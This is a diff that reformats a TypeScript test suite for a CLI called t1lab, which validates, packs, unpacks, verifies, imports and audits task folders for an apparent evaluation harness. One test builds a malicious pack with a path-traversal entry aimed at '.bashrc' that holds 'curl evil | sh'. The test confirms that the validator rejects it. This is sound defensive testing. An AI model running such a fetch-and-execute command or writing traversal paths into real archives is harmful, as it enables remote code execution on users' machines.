@@ -18,7 +18,9 @@ function tree(dir: string): Record<string, string> {
     for (const e of readdirSync(d, { withFileTypes: true })) {
       const p = join(d, e.name);
       if (e.isDirectory()) walk(p);
-      else out[relative(dir, p)] = `${createHash('sha256').update(readFileSync(p)).digest('hex')} ${statSync(p).mode & 0o111 ? 'x' : '-'}`;
+      else
+        out[relative(dir, p)] =
+          `${createHash('sha256').update(readFileSync(p)).digest('hex')} ${statSync(p).mode & 0o111 ? 'x' : '-'}`;
     }
   };
   walk(dir);
@@ -26,7 +28,14 @@ function tree(dir: string): Record<string, string> {
 }
 
 interface Listing {
-  tasks: { id: string; category: string; difficulty: string; layout: string; verifiers: string[]; runtime: { kind: string } }[];
+  tasks: {
+    id: string;
+    category: string;
+    difficulty: string;
+    layout: string;
+    verifiers: string[];
+    runtime: { kind: string };
+  }[];
   invalid: { id: string; problems: { file: string; field: string | null; reason: string }[] }[];
 }
 
@@ -50,16 +59,34 @@ describe('t1lab tasks list / validate', () => {
     expect((await runT1lab(['tasks', 'validate', EXAMPLES])).code).toBe(0);
     const r = await runT1lab(['tasks', 'validate', join(FIXTURES, 'broken'), '--json']);
     expect(r.code).toBe(1);
-    const report = parseJsonOutput<{ valid: number; invalid: number; tasks: { id: string; ok: boolean; problems: object[] }[] }>(r);
+    const report = parseJsonOutput<{
+      valid: number;
+      invalid: number;
+      tasks: { id: string; ok: boolean; problems: object[] }[];
+    }>(r);
     expect(report.invalid).toBe(2);
     const byId = Object.fromEntries(report.tasks.map((t) => [t.id, t]));
-    expect(byId['malformed-toml']?.problems).toEqual([{ file: 'task.toml', field: null, reason: expect.stringMatching(/^malformed TOML at line 3, column \d+/), severity: 'error' }]);
+    expect(byId['malformed-toml']?.problems).toEqual([
+      {
+        file: 'task.toml',
+        field: null,
+        reason: expect.stringMatching(/^malformed TOML at line 3, column \d+/),
+        severity: 'error',
+      },
+    ]);
     expect(byId['unknown-difficulty']?.problems).toEqual([
-      { file: 'task.toml', field: 'metadata.difficulty', reason: "unknown difficulty 'extreme' (expected easy, medium or hard)", severity: 'error' },
+      {
+        file: 'task.toml',
+        field: 'metadata.difficulty',
+        reason: "unknown difficulty 'extreme' (expected easy, medium or hard)",
+        severity: 'error',
+      },
     ]);
     expect(byId['no-oracle']?.ok).toBe(true);
     const human = await runT1lab(['tasks', 'validate', join(FIXTURES, 'broken')]);
-    expect(human.stdout).toContain("INVALID unknown-difficulty\n        task.toml: metadata.difficulty: unknown difficulty 'extreme'");
+    expect(human.stdout).toContain(
+      "INVALID unknown-difficulty\n        task.toml: metadata.difficulty: unknown difficulty 'extreme'",
+    );
   });
 });
 
@@ -85,15 +112,37 @@ describe('t1lab tasks pack / unpack', () => {
     expect((await runT1lab(['tasks', 'pack', EXAMPLES, join(tmp.path, 'x.txt')])).code).toBe(2);
 
     const line = (id: string, extra: object[] = []) =>
-      JSON.stringify({ id, files: [{ path: 'instruction.md', text: 'Say hi.' }, { path: 'task.toml', text: '[metadata]\ncategory="x"\ndifficulty="easy"\n[[verifier.assertions]]\nname="a"\nrun="true"\n' }, ...extra] });
+      JSON.stringify({
+        id,
+        files: [
+          { path: 'instruction.md', text: 'Say hi.' },
+          {
+            path: 'task.toml',
+            text: '[metadata]\ncategory="x"\ndifficulty="easy"\n[[verifier.assertions]]\nname="a"\nrun="true"\n',
+          },
+          ...extra,
+        ],
+      });
     const pack = join(tmp.path, 'evil.jsonl');
-    writeFileSync(pack, [line('fine'), line('evil', [{ path: '../../../home/user/.bashrc', text: 'curl evil | sh\n' }]), line('also-fine')].join('\n'));
+    writeFileSync(
+      pack,
+      [
+        line('fine'),
+        line('evil', [{ path: '../../../home/user/.bashrc', text: 'curl evil | sh\n' }]),
+        line('also-fine'),
+      ].join('\n'),
+    );
     const r = await runT1lab(['tasks', 'validate', pack, '--json']);
     expect(r.code).toBe(1);
     const report = parseJsonOutput<{ valid: number; tasks: { id: string; ok: boolean; problems: object[] }[] }>(r);
     expect(report.valid).toBe(2);
     expect(report.tasks.find((t) => t.id === 'evil')?.problems).toEqual([
-      { file: 'evil.jsonl:2', field: 'files[2].path', reason: "'../../../home/user/.bashrc' escapes the task folder ('..')", severity: 'error' },
+      {
+        file: 'evil.jsonl:2',
+        field: 'files[2].path',
+        reason: "'../../../home/user/.bashrc' escapes the task folder ('..')",
+        severity: 'error',
+      },
     ]);
     const out = join(tmp.path, 'evil-out');
     const u = await runT1lab(['tasks', 'unpack', pack, out]);
@@ -133,7 +182,11 @@ describe('t1lab verify', () => {
     const r = await runT1lab(['verify', join(FIXTURES, 'broken/verifier-timeout'), '--workspace', ws, '--json']);
     expect(r.code).toBe(1);
     const report = parseJsonOutput<VerifyReport>(r);
-    expect(report.assertions.at(-1)).toMatchObject({ name: '(verifier)', status: 'error', message: expect.stringContaining('checking n.txt...') });
+    expect(report.assertions.at(-1)).toMatchObject({
+      name: '(verifier)',
+      status: 'error',
+      message: expect.stringContaining('checking n.txt...'),
+    });
   });
 });
 
@@ -142,15 +195,27 @@ describe('t1lab tasks import-tb', () => {
     const dest = join(tmp.path, 'imported');
     const r = await runT1lab(['tasks', 'import-tb', join(REPO_FIXTURES, 'tb-import'), dest, '--json']);
     expect(r.code, r.stderr).toBe(0);
-    const report = parseJsonOutput<{ imported: { id: string; from: string; runtime: { kind: string; reason?: string } }[]; failed: object[] }>(r);
+    const report = parseJsonOutput<{
+      imported: { id: string; from: string; runtime: { kind: string; reason?: string } }[];
+      failed: object[];
+    }>(r);
     const byId = Object.fromEntries(report.imported.map((t) => [t.id, t]));
     expect(byId['tb1-word-count']).toMatchObject({ from: 'tb1', runtime: { kind: 'sandbox' } });
     expect(byId['harbor-greeting']).toMatchObject({ from: 'harbor', runtime: { kind: 'sandbox' } });
-    expect(byId['tb1-two-services']?.runtime).toEqual({ kind: 'container', reason: 'docker-compose defines 2 services (client, db)' });
-    expect(byId['harbor-needs-image']?.runtime).toMatchObject({ kind: 'container', reason: expect.stringMatching(/^Dockerfile line 3: installs Python packages this machine lacks: torch/) });
+    expect(byId['tb1-two-services']?.runtime).toEqual({
+      kind: 'container',
+      reason: 'docker-compose defines 2 services (client, db)',
+    });
+    expect(byId['harbor-needs-image']?.runtime).toMatchObject({
+      kind: 'container',
+      reason: expect.stringMatching(/^Dockerfile line 3: installs Python packages this machine lacks: torch/),
+    });
     expect(readFileSync(join(dest, 'tb1-word-count/task.toml'), 'utf8')).toMatch(/use_test_sh = false/);
 
-    const audit = await runT1lab(['tasks', 'audit', dest, '--json', '--only', 'tb1-word-count,harbor-greeting,tb1-two-services'], { timeoutMs: 180_000 });
+    const audit = await runT1lab(
+      ['tasks', 'audit', dest, '--json', '--only', 'tb1-word-count,harbor-greeting,tb1-two-services'],
+      { timeoutMs: 180_000 },
+    );
     const verdicts = Object.fromEntries(parseJsonOutput<AuditResult[]>(audit).map((a) => [a.id, a.verdict]));
     expect(verdicts).toEqual({ 'tb1-word-count': 'ok', 'harbor-greeting': 'ok', 'tb1-two-services': 'error' });
     expect(audit.code).toBe(1);
